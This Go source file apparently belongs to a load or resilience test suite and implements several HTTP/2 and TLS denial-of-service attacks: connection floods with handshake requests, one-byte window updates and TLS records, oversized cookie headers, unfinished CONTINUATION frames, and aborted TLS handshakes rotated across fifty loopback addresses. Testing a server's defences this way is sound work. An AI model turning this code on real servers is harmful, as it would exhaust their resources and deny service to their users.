package kinds

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"net"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"

	"github.com/masegraye/connect-plugin-go/internal/record"
)

const (
	thousand     = 1_000  // connections
	poured       = 250    // requests on each at once: as many as there may be streams
	perTenth     = 9      // WINDOW_UPDATEs on each, every tenth of a second, as many as are free
	allButFew    = 4_990  // of them that are free at once
	longField    = 15_000 // bytes, of which a head has room for two
	longHeads    = 2      // on each, a second
	fifty        = 50     // addresses, from this one on
	firstOfFifty = 10
)

// manies are attacks on very many connections, each of which stays below what one may do, and with what TLS is read by.
func manies() []Kind {
	return []Kind{
		{Who: Stranger, Name: "handshakes on a thousand connections", run: crowd(thousand, every(time.Second, (*conn).shakes))},
		{Who: Stranger, Name: "WINDOW_UPDATEs on a thousand connections", run: crowd(thousand, every(tenth, (*conn).windows))},
		{Who: Stranger, Name: "records of TLS: of a byte each on a thousand connections", run: crowd(thousand, every(tenth, (*conn).bytes))},
		{Who: Stranger, Name: "long heads on a thousand connections", run: crowd(thousand, every(time.Second, (*conn).longHeads))},
		{Who: Stranger, Name: "long heads that stay unfinished on a thousand connections", run: crowd(thousand, (*conn).unfinished)},
		{Who: Stranger, Name: "connections that use up what is free", run: severally(flood(usedUp))},
		{Who: Stranger, Name: "TLS handshakes broken off, from fifty addresses", run: brokenOff},
	}
}

// every does something again and again.
func every(pause time.Duration, do func(*conn) error) func(*conn) error {
	return func(c *conn) error {
		tick := time.NewTicker(pause)
		defer tick.Stop()
		for {
			if err := errors.Join(do(c), c.flush()); err != nil {
				return c.lost(err)
			}
			select {
			case <-tick.C:
			case <-c.gone:
				return errGone
			case <-c.ctx.Done():
				return nil
			}
		}
	}
}

// shakes asks for so many identities at once, with proof of nothing.
func (c *conn) shakes() error {
	for range poured {
		if err := c.more(); err != nil {
			return err
		}
		id, err := c.open(c.typed(handshakePath, "application/proto"), false)
		if err := errors.Join(err, c.WriteData(id, true, []byte{0x08, 0x01})); err != nil {
			return err
		}
	}
	return nil
}

// windows opens a window by little, in a record each time.
func (c *conn) windows() error {
	for range perTenth {
		if err := errors.Join(c.more(), c.WriteWindowUpdate(0, 1), c.flush()); err != nil {
			return err
		}
	}
	return nil
}

// bytes does so in records of a byte.
func (c *conn) bytes() error {
	if c.records == nil {
		var err error
		const preface = 1 // records so far
		if c.records, err = record.Client(c.tls, c.keys, preface); err != nil {
			return err
		}
		c.records.Size = 1
	}
	f := http2.NewFramer(c.records, nil)
	for range perTenth / 2 {
		if err := errors.Join(c.more(), f.WriteWindowUpdate(0, 1)); err != nil {
			return err
		}
	}
	return c.records.Flush()
}

// longHeads asks how the host is, with as much as there may be in a head, packed.
func (c *conn) longHeads() error {
	long := strings.Repeat("v", longField)
	for range longHeads {
		if err := c.more(); err != nil {
			return err
		}
		if _, err := c.open(c.head("/healthz", "cookie", long, "cookie", long), true); err != nil {
			return err
		}
	}
	return nil
}

// unfinished begins the longest head that is taken, and leaves it when most of that came.
func (c *conn) unfinished() error {
	if err := c.more(); err != nil {
		return err
	}
	long := c.head("/healthz", "cookie", strings.Repeat("&", longField), "cookie", strings.Repeat("&", longField))
	err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: long[:maxFrame]})
	if err = errors.Join(err, c.WriteContinuation(1, false, long[maxFrame:len(long)-1]), c.flush()); err != nil {
		return c.lost(err)
	}
	return c.linger()
}

// usedUp sends what is free at once, each in a record of its own, and leaves before it would be cut off.
func usedUp(c *conn, i uint32) error {
	if i < allButFew {
		return errors.Join(c.WriteWindowUpdate(0, 1), c.flush())
	}
	if raw, ok := c.tls.NetConn().(*net.TCPConn); ok {
		_ = raw.CloseWrite()
	}
	return c.linger()
}

// brokenOff begins TLS handshakes as fast as they go, from one address after the other, and is gone once the host has computed.
func brokenOff(ctx context.Context, a *attack) error {
	var working sync.WaitGroup
	var turn atomic.Uint32
	for range connecting {
		working.Go(func() {
			for ctx.Err() == nil && a.sent.Add(1) < mostFrames {
				if err := a.breakOff(ctx, fmt.Sprint("127.0.1.", firstOfFifty+turn.Add(1)%fifty)); err != nil {
					a.refused.Add(1)
				}
			}
		})
	}
	working.Wait()
	return nil
}

func (a *attack) breakOff(ctx context.Context, from string) error {
	c, err := dialFrom(ctx, from, a.addr)
	if err != nil {
		return err
	}
	defer func() { _ = c.Close() }()
	leaving := &leaver{Conn: c}
	cfg := a.tls.Clone()
	cfg.NextProtos, cfg.ServerName = []string{"h2"}, hostName
	if err = tls.Client(leaving, cfg).HandshakeContext(ctx); leaving.answered {
		return nil
	}
	return err //nolint:wrapcheck // only whether there is one matters
}

// leaver is gone at the first answer.
type leaver struct {
	net.Conn

	answered bool
}

func (l *leaver) Read(p []byte) (int, error) {
	n, err := l.Conn.Read(p)
	if err != nil {
		return n, err //nolint:wrapcheck // stands for what it wraps
	}
	l.answered = true
	return 0, errGone
}
